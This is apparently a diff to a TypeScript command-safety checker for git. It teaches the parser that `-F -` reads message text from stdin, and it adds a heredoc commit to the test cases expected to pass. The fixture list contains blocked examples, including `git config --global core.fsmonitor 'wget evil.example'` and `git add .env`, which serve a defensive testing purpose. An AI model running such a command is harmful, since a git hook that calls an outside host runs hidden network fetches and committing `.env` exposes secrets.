@@ -192,6 +192,8 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
     case 'notes': {
       const mp = parse(rest, { order: 'gnu', ...MESSAGE_OPTIONS });
       for (const o of mp.options) if ((o.name === 'm' || o.name === 'message') && o.value) uses.push({ word: o.value, role: 'text' });
+      // `-F -` reads the message from stdin: text, like `-m`.
+      if (mp.options.some((o) => (o.name === 'F' || o.name === 'file') && value(o.value) === '-')) return done({ runs, uses, stdin: 'data' });
       break;
     }
     case 'check-ignore':
@@ -262,7 +264,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git config --global core.fsmonitor 'wget evil.example'",
         'git add .env',
       ],
-      pass: ['git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3'],
+      pass: ["git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3'],
     },
   },
   {
